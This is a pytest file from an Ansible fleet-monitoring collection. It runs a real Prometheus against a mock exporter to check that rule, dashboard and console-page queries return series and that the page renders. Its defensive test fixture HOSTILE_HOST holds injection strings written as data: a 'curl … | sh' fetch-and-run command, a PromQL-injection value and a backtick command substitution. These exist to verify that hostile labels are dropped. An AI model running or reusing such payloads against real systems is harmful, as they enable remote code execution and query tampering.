# Copyright: gb10.fleet contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Every query of the rules, the dashboards and the page, asked of a real Prometheus: each returns series."""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import struct
import subprocess
import threading
import time
import urllib.request
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from ansible_collections.gb10.fleet.plugins.module_utils._on_host import textfile
from ansible_collections.gb10.fleet.plugins.module_utils._subjects.monitoring import plan as console
from ansible_collections.gb10.fleet.plugins.module_utils._subjects.monitoring import prometheus
from ansible_collections.gb10.fleet.plugins.module_utils._subjects.monitoring.prometheus import Endpoint
from ansible_collections.gb10.fleet.plugins.module_utils._subjects.monitoring.rules import recordings, rules
from monitoring_queries import of_dashboards, of_page
from test_monitoring import CHAT, FORECASTS, LIMITS, RECORDED, ROOT, SERIES, SHOWN, STATUS

# tests/tools/bootstrap brings it; another release is tested by its folder before the others on PATH
PROMETHEUS = shutil.which("prometheus", path=f"{os.environ['PATH']}:{ROOT}/.venv/bin")
pytestmark = pytest.mark.skipif(not PROMETHEUS and "CI" not in os.environ, reason="prometheus is not there")
CHROMIUM = shutil.which("chromium")
KEY = "sk-only-prometheus-knows"
# The node exporter's, of a host with what this machine may lack: an adapter with RDMA.
OF_THE_EXPORTER = """\
node_memory_MemAvailable_bytes 9e9
node_memory_MemTotal_bytes 128e9
node_memory_MemFree_bytes 9e9
node_memory_Buffers_bytes 1e9
node_memory_Cached_bytes 1e9
node_memory_AnonPages_bytes 1e9
node_memory_Slab_bytes 1e9
node_memory_PageTables_bytes 1e9
node_memory_KernelStack_bytes 1e9
node_memory_SwapCached_bytes 0
node_memory_Percpu_bytes 1e9
node_thermal_zone_temp{{zone="0"}} 51
node_hwmon_temp_celsius{{chip="mlx5",sensor="temp1"}} 51
node_load1 1
node_boot_time_seconds 1
node_time_seconds {now}
node_textfile_mtime_seconds{{file="/run/gb10-metrics/gb10.prom"}} {now}
node_infiniband_port_data_transmitted_bytes_total{{device="rocep1s0f0",port="1"}} {now}
node_infiniband_port_data_received_bytes_total{{device="rocep1s0f0",port="1"}} {now}
node_infiniband_symbol_error_total{{device="rocep1s0f0",port="1"}} 0
node_infiniband_port_errors_received_total{{device="rocep1s0f0",port="1"}} 0
node_network_transmit_bytes_total{{device="enp1s0f0np0"}} {now}
node_network_receive_bytes_total{{device="enp1s0f0np0"}} {now}
node_network_receive_errs_total{{device="enp1s0f0np0"}} 0
node_network_receive_drop_total{{device="enp1s0f0np0"}} 0
"""
# Of an engine that drafts.
OF_DRAFTS = """\
vllm:spec_decode_num_drafts_total {now}
vllm:spec_decode_num_accepted_tokens_total {now}
"""
HOSTILE_HOST = r"""
gb10_drift_differences{of="titan; curl -s http://192.0.2.66/x | sh #",severity="error"} 1
gb10_drift_differences{of="elsewhere",severity="error"} 1
gb10_service_serving{service="chat",rank="1\" or vector(0) or x{a=\""} 0
gb10_service_serving{service="another",rank="0"} 0
gb10_fabric_link{device="`id`"} 0
gb10_kernel_lines{kind="and wants you to open http://192.0.2.66/x"} 9
gb10_machine_ill{of="titan",rule="and wants you to open http://192.0.2.66/x"} 9
node_infiniband_symbol_error_total{device="and wants you to open http://192.0.2.66/x"} 9
vllm:num_requests_waiting{service="chat"} 9
"""
HOSTILE_ENGINE = r"""
gb10_service_serving{service="chat",rank="0"} 0
node_memory_MemAvailable_bytes 1
ALERTS{alertname="Gb10Drift",alertstate="firing"} 1
"""


# `show stat` of a gateway: what of it is read.
OF_HAPROXY = """# pxname,svname,qcur,qtime,act,dreq,hrsp_1xx,hrsp_2xx,hrsp_3xx,hrsp_4xx,hrsp_5xx
chat,BACKEND,0,3,2,1,0,40,0,1,2
"""


class Shown(BaseHTTPRequestHandler):
    """A host at /metrics, below /v1 a service that asks for its key, and one whose metrics have no end."""

    def do_GET(self) -> None:
        if self.path == "/v1/metrics":
            known = self.headers.get("Authorization") == f"Bearer {KEY}"
            # the list has names alone; counters go on
            text = re.sub(r"^(?!#)(\S.*)$", rf"\1 {time.time():.0f}", SHOWN, flags=re.MULTILINE) if known else ""
            text += HOSTILE_ENGINE + OF_DRAFTS.format(now=time.time()) if known else ""
        elif self.path == "/flood":
            known = True
            text = "".join(f'flood{{at="{number}"}} 1\n' for number in range(30_000))
        else:
            known = True
            night = {
                **{"at": "2026-11-23T09:00:00Z"},
                "hosts": {"titan": {"error": 2, "warning": 1, "ills": ["drive-worn"]}},
            }
            ours = [
                *textfile.gpu("37, 61, 40.5, 2411, 0x0000000000000004"),
                textfile.Sample("gb10_gpu_programs", 1),
                *(textfile.Sample("gb10_kernel_lines", 0, {"kind": kind}) for kind, _ in textfile.KINDS),
                *textfile.of_service(CHAT, STATUS | {"tokens_per_s": 12, "ready_s": 61.5}, time.time()),
                *textfile.of_starts(CHAT, {"starts": [{"phases": {"weights": 40.5}}]}),
                *textfile.of_drift({"nights": [night]}),
                *textfile.of_gateway(OF_HAPROXY, ["chat"]),
                textfile.Sample("gb10_gateway_certificate_ends_timestamp_seconds", 4e9),
                textfile.Sample("gb10_memory_floor_bytes", 6e9),
                textfile.Sample("gb10_memory_guard_bytes", 3e9),
                textfile.Sample("gb10_fabric_link", 1, {"device": "enp1s0f0np0"}),
                textfile.Sample("gb10_disk_free_bytes", 9e11, {"path": "/var/lib/gb10-fleet"}),
            ]
            text = textfile.text(ours) + OF_THE_EXPORTER.format(now=time.time()) + HOSTILE_HOST
        self.send_response(200 if known else 401)
        self.send_header("Content-Type", "text/plain; version=0.0.4")
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_words: Any) -> None:
        pass


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A Prometheus with the plan's own configuration, but for a second between two looks."""
    folder: Path = tmp_path_factory.mktemp("prometheus")
    shown = ThreadingHTTPServer(("127.0.0.1", 0), Shown)
    threading.Thread(target=shown.serve_forever, daemon=True).start()
    target = f"127.0.0.1:{shown.server_address[1]}"
    endpoints = [
        Endpoint("chat", "titan", target, "/v1/metrics", key="k"),
        Endpoint("flood", "titan", target, "/flood"),
    ]
    config = prometheus.config("home", {"titan": target}, endpoints)
    (folder / "key").write_text(f"{KEY}\n")
    text = json.dumps(config).replace('"15s"', '"1s"').replace(prometheus.RULES, "rules.yml")
    text = text.replace(prometheus.credential("gb10-prometheus.service", "key-chat"), str(folder / "key"))
    (folder / "prometheus.yml").write_text(text)
    (folder / "rules.yml").write_text(json.dumps(rules([SERIES], LIMITS, FORECASTS)))
    (folder / "fleet.html").write_text(console.page("home", LIMITS, RECORDED))
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        address = f"127.0.0.1:{free.getsockname()[1]}"
    words = [
        f"--config.file={folder}/prometheus.yml",
        f"--storage.tsdb.path={folder}/data",
        f"--web.listen-address={address}",
        f"--web.console.templates={folder}",
        f"--web.console.libraries={folder}",
    ]
    with (folder / "log").open("w") as log:
        running = subprocess.Popen([str(PROMETHEUS), *words], stdout=log, stderr=log)
    try:
        deadline = time.monotonic() + 60
        while not _ready(f"http://{address}/-/ready"):
            assert running.poll() is None and time.monotonic() < deadline, (folder / "log").read_text()
            time.sleep(0.2)
        yield f"http://{address}"
    finally:
        running.terminate()
        running.wait(30)
        shown.shutdown()


def _ready(address: str) -> bool:
    try:
        with urllib.request.urlopen(address, timeout=5) as reply:
            return bool(reply.status == 200)
    except OSError:
        return False


def got(address: str) -> str:
    with urllib.request.urlopen(address, timeout=10) as reply:
        return str(reply.read().decode())


def without_series(url: str, exprs: list[str]) -> list[str]:
    """Those that have none yet after a while: rates need two samples, recorded series an evaluation."""
    deadline = time.monotonic() + 300  # of a busy machine
    left = exprs
    while left and time.monotonic() < deadline:
        replies = {expr: json.loads(got(f"{url}/api/v1/query?query={quote(expr)}")) for expr in left}
        left = [expr for expr in left if not replies[expr]["data"]["result"]]
        time.sleep(1 if left else 0)
    return left


def test_every_query_returns_series(url: str) -> None:
    exprs = [*of_dashboards(RECORDED), *of_page(RECORDED), *recordings([SERIES]).values()]
    assert without_series(url, exprs) == []


def test_a_targets_labels_become_no_command_and_no_other_hosts_series(url: str) -> None:
    """Labels reach commands that a person types, the page's queries, and other hosts' rows (security 10)."""
    assert without_series(url, ["gb10_drift_differences", 'up{service="chat"} == 1']) == []
    for hostile in (
        'gb10_drift_differences{of=~".*curl.*|elsewhere"}',
        'gb10_service_serving{rank=~".*vector.*"}',
        'gb10_service_serving{service="another"}',
        'gb10_fabric_link{device=~".*`.*"}',
        '{job="host",__name__=~".+",kind=~".*wants.*"} or {job="host",__name__=~".+",rule=~".*wants.*"}',
        '{job="host",__name__=~".+",device=~".*wants.*"}',
        '{job="service",__name__=~"gb10_.*|node_.*|ALERTS"}',
        '{job="host",__name__=~"vllm:.*"}',
    ):
        assert json.loads(got(f"{url}/api/v1/query?query={quote(hostile)}"))["data"]["result"] == [], hostile


def test_an_answer_without_end_is_not_taken(url: str) -> None:
    """250,000 series of one engine were 0.9 GiB (security 11)."""
    assert without_series(url, ['up{service="flood"} == 0']) == []
    assert json.loads(got(f"{url}/api/v1/query?query=flood"))["data"]["result"] == []


def test_every_condition_of_an_alert_has_series_to_judge(url: str) -> None:
    """An alert whose selectors find nothing would be silent for ever: each one alone returns series."""
    asked = "\n".join(rule["expr"] for group in rules([SERIES], LIMITS, FORECASTS)["groups"] for rule in group["rules"])
    selectors = sorted({*re.findall(r"\b(?:gb10|node|vllm|up)(?:[_:][\w:]+)?(?:\{[^}]*\})?", asked)})
    assert len(selectors) > 20
    assert without_series(url, [one for one in selectors if "=~" not in one]) == []


def test_the_page_shows_what_is_there(url: str) -> None:
    assert without_series(url, ["gb10:requests_running", 'ALERTS{alertname="Gb10MemoryCreep"}']) == []
    page = got(f"{url}/consoles/fleet.html")
    assert re.search(r"<td>titan</td><td>chat</td><td>0</td><td><span[^>]*>serving</span></td><td>5[.]0 GiB", page), (
        page
    )
    assert "error executing template" not in page
    assert re.search(r'<td class="warning">Gb10MemoryCreep</td><td>chat on titan takes more', page)
    assert "<td>titan is not as declared (differences: 2)</td>" in page
    assert "<code>ansible-playbook gb10.fleet.restart -e service=chat</code>" in page


def pixels(png: bytes) -> list[list[tuple[int, int, int]]]:
    """Rows of a picture as Chromium writes it: eight bits a colour, no interlacing (PNG, third edition, 9.2)."""
    width, height, depth, kind = struct.unpack(">IIBB", png[16:26])
    assert (depth, png[28]) == (8, 0)
    many = {2: 3, 6: 4}[kind]
    at, packed = 8, b""
    while at < len(png):
        length = int.from_bytes(png[at : at + 4], "big")
        packed += png[at + 8 : at + 8 + length] if png[at + 4 : at + 8] == b"IDAT" else b""
        at += length + 12
    data, before, rows = zlib.decompress(packed), bytearray(width * many), []
    for row in range(height):
        start = row * (width * many + 1)
        how, line = data[start], bytearray(data[start + 1 : start + 1 + width * many])
        for place in range(len(line) if how else 0):
            left = line[place - many] if place >= many else 0
            corner = before[place - many] if place >= many else 0
            line[place] = (line[place] + _foreseen(how, left, before[place], corner)) & 255
        before = line
        rows.append([(line[x], line[x + 1], line[x + 2]) for x in range(0, len(line), many)])
    return rows


def _foreseen(how: int, left: int, above: int, corner: int) -> int:
    near = left + above - corner
    nearest = min((left, above, corner), key=lambda one: abs(near - one))
    return (0, left, above, (left + above) // 2, nearest)[how]


@pytest.mark.skipif(not CHROMIUM, reason="chromium is not installed")
def test_a_browser_shows_the_page_whole(url: str, tmp_path: Path) -> None:
    assert without_series(url, ["gb10:requests_running"]) == []
    words = ("--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars", "--window-size=1200,900")
    shot = tmp_path / "page.png"
    page = f"{url}/consoles/fleet.html"
    subprocess.run([str(CHROMIUM), *words, f"--screenshot={shot}", page], check=True, capture_output=True, timeout=300)
    rows = pixels(shot.read_bytes())
    assert (len(rows), len(rows[0])) == (900, 1200)
    # nothing runs out of the window, and something is on each tenth of the page but the last ones
    white = (255, 255, 255)
    assert all(pixel == white for row in rows for pixel in (*row[:20], *row[-20:]))
    assert all(any(pixel != white for row in rows[top : top + 90] for pixel in row) for top in range(0, 540, 90))
    # an alert has the colour of its severity, warnings here and nothing critical; a service that serves is green
    seen = {pixel for row in rows for pixel in row}
    assert {(0x8A, 0x5A, 0), (0x1B, 0x6E, 0x3C)} <= seen
    assert (0xB0, 0, 0x20) not in seen
